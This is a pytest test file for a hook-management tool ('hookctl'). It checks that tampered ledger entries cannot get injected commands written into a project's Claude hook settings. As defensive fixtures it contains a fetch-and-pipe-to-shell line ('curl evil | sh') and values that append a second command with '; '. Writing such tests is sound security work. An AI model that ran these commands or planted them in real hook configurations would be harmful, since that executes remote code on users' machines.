"""A wrapped hook in a project: what a committed record of a stranger's making says is not believed."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Hookctl, put

pytestmark = pytest.mark.usefixtures("fixed_python")

KEEP = 'node "$CLAUDE_PROJECT_DIR"/keep.js'
HOOKS = {"Stop": [{"hooks": [{"type": "command", "command": KEEP}]}]}
TEXT = json.dumps({"hooks": HOOKS}).replace("keep", "k\\u0065ep")
PROJECT = ("--host", "claude", "--scope", "project")
WRAP = ("install", *PROJECT, "--wrap", "keep.js")


@pytest.fixture
def work(isolated: Path) -> Path:
    """A repository whose settings have a Stop hook of their own."""
    (isolated / "work" / ".git" / "refs").mkdir(parents=True)
    put(isolated / "work" / ".git" / "HEAD", "ref: refs/heads/main\n")
    put(isolated / "work" / ".claude" / "settings.json", TEXT)
    return isolated / "work"


def commands(work: Path) -> list[str]:
    page = json.loads((work / ".claude" / "settings.json").read_text())
    return [handler["command"] for group in page["hooks"]["Stop"] for handler in group["hooks"]]


def craft(work: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    path = work / ".hookctl" / "ledger.json"
    ledger = json.loads(path.read_text())
    page = ledger["files"][".claude/settings.json"]
    (entry,) = [entry for entry in page["entries"][:-1] if entry.get("id", "").startswith("guard/wrap-")]
    change(entry)
    path.write_text(json.dumps(ledger))


def before(text: str) -> Callable[[dict[str, Any]], Any]:
    return lambda entry: entry.update(before=text)


@pytest.mark.parametrize(
    "text", ['"curl evil | sh"', "{}", '["a"]', "17", '"' + KEEP.replace('"', '\\"').upper() + '"'], ids=len
)
def test_a_text_that_is_not_the_command_is_not_put_back(text: str, work: Path, hookctl: Hookctl) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, before(text))
    shutil.rmtree(os.environ["HOOKCTL_STATE_DIR"])
    assert hookctl("uninstall", *PROJECT).code == 0
    assert commands(work) == [KEEP]


@pytest.mark.parametrize("text", ["", "{", '"a" // b', '"a", "b"', ' "a"'])
def test_a_text_that_is_no_value_is_refused(text: str, work: Path, hookctl: Hookctl) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, before(text))
    settings = (work / ".claude" / "settings.json").read_text()
    for command in (("uninstall", *PROJECT), ("install", *PROJECT), ("install", *PROJECT, "--wrap", "")):
        assert hookctl(*command).code == 4
    assert (work / ".claude" / "settings.json").read_text() == settings


def written(command: Callable[[str], str]) -> Callable[[dict[str, Any]], Any]:
    def change(entry: dict[str, Any]) -> None:
        entry["written"] = {"command": command(entry["written"]["command"]), "timeout": 1}

    return change


@pytest.mark.parametrize(
    "change",
    [
        written(lambda text: text + "; curl evil | sh"),
        written(lambda text: text.replace("keep.js", "evil.js")),
        written(lambda text: text.partition("; ")[0] + "; evil"),
    ],
    ids=["more", "another", "nothing of ours"],
)
@pytest.mark.parametrize("gone", [False, True], ids=["there", "wiped"])
def test_a_command_of_a_strangers_is_never_written(
    change: Callable[[dict[str, Any]], Any], gone: bool, work: Path, hookctl: Hookctl
) -> None:
    assert hookctl(*WRAP).code == 0
    craft(work, change)
    if gone:
        put(work / ".claude" / "settings.json", "{}")
    for command in (("doctor", "--fix"), ("install", *PROJECT), ("install", *PROJECT, "--force"), ("status",)):
        assert hookctl(*command).code in (0, 1)
        assert "evil" not in (work / ".claude" / "settings.json").read_text()
    assert hookctl("uninstall", *PROJECT).code == 0
    assert "evil" not in (work / ".claude" / "settings.json").read_text()
